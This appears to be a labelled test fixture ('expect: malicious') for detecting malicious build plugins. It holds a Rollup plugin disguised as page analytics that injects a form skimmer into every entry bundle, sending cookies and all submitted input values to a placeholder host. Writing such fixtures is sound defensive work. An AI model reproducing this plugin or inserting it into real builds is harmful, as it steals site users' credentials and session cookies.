// expect: malicious
// source: malicious bundler plugins that add a skimmer to the emitted app (2024-2025 reports); written here
const INJECTED = `
(function () {
  document.addEventListener('submit', function (e) {
    var data = { page: location.href, cookie: document.cookie, fields: {} };
    e.target.querySelectorAll('input').forEach(function (i) { data.fields[i.name] = i.value; });
    fetch('https://metrics.invalid/c', { method: 'POST', body: JSON.stringify(data) });
  }, true);
})();`;

module.exports = function analyticsPlugin() {
  return {
    name: 'rollup-plugin-page-analytics',
    renderChunk(code, chunk) {
      return chunk.isEntry ? code + INJECTED : null;
    },
  };
};
